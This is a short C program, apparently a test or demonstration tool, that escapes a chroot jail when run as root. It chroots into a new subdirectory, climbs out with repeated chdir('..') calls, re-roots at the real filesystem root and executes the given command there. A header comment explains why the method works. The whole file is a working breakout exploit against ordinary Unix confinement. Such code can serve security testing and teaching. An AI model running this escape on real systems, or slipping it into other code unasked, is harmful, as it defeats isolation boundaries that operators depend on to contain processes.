/*
 * The way out of a chroot, for root: chroot(2) moves the root and not the working
 * directory, which then lies above the root, where ".." goes on to the real one.
 *
 *	seeds_escape COMMAND [ARG]...
 */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc < 2)
		return 125;
	mkdir("deeper", 0755);
	if (chroot("deeper") != 0) {
		perror("seeds_escape");
		return 125;
	}
	for (int i = 0; i < 100; i++)
		if (chdir("..") != 0)
			return 125;
	if (chroot(".") != 0)
		return 125;
	execvp(argv[1], argv + 1);
	return 127;
}
